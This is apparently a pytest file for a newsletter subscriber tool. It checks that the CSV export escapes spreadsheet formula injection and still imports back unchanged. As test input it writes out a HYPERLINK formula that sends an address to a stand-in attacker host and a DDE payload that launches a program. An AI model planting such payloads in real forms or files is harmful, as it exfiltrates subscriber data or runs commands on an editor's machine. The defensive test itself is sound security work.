"""CSV formula injection: what readers type (a signup name, imported attributes) must not run
as a formula when an editor opens `subscribers export` in a spreadsheet.

The attack: sign up as ``=HYPERLINK("https://evil.example/?"&A2,"Update")``; an editor opens
the export and clicks the cell, which sends the neighbouring address to the attacker.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

from fastapi.testclient import TestClient
from sqlalchemy import select
from typer.testing import CliRunner

from distributor.cli.main import app as cli
from distributor.config import Settings
from distributor.db.models import Subscriber
from distributor.db.session import unit_of_work
from distributor.domain.subscribers import OptIn
from distributor.services.subscribers import create_list
from distributor.web.app import create_app
from tests.conftest import make_settings

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2,"Update")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def test_exported_cells_never_start_a_formula_and_import_back_unchanged(
    tmp_path: Path, database_url: str, use_settings: Callable[[Settings], Settings]
) -> None:
    settings = use_settings(make_settings(tmp_path, database_url))
    with unit_of_work(settings.database_url) as session:
        create_list(session, "weekly", title="The Weekly", opt_in=OptIn.SINGLE)
        create_list(session, "copy", title="A copy", opt_in=OptIn.SINGLE)
    with TestClient(create_app(settings)) as client:
        signup = client.post(
            "/signup/weekly", data={"email": "attacker@example.org", "name": HYPERLINK}
        )
        assert signup.status_code == 200
    source = tmp_path / "readers.csv"
    # The public signup stores no name any more; an editor's import still can carry one.
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["email", "name", "attr.note"])
        writer.writerow(["-dash@example.org", "+cmd|' /C calc'!A0", "-2+3"])
        writer.writerow(["plain@example.org", "@SUM(1)", "ok"])
        writer.writerow(["named@example.org", HYPERLINK, "ok"])
    runner = CliRunner()
    imported = runner.invoke(cli, ["subscribers", "import", str(source), "--list", "weekly"])
    assert imported.exit_code == 0, imported.output

    exported = runner.invoke(cli, ["subscribers", "export", "--list", "weekly"])
    assert exported.exit_code == 0, exported.output
    rows = list(csv.reader(io.StringIO(exported.stdout)))
    assert len(rows) == 5
    assert rows[0][0] == "email"
    cells = [cell for row in rows for cell in row]
    dangerous = [cell for cell in cells if cell.startswith(TRIGGERS)]
    assert dangerous == [], f"cells a spreadsheet runs as formulas: {dangerous}"
    assert "'" + HYPERLINK in cells
    assert "'-dash@example.org" in cells
    assert "'+cmd|' /C calc'!A0" in cells

    # The export is still the import format: the quote goes again, nothing else changes.
    target = tmp_path / "export.csv"
    target.write_text(exported.stdout, encoding="utf-8")
    again = runner.invoke(cli, ["subscribers", "import", str(target), "--list", "copy"])
    assert again.exit_code == 0, again.output
    with unit_of_work(settings.database_url) as session:
        stored = {
            row.email: (row.name, row.attributes) for row in session.scalars(select(Subscriber))
        }
    assert stored == {
        "attacker@example.org": (None, {}),
        "named@example.org": (HYPERLINK, {"note": "ok"}),
        "-dash@example.org": ("+cmd|' /C calc'!A0", {"note": "-2+3"}),
        "plain@example.org": ("@SUM(1)", {"note": "ok"}),
    }
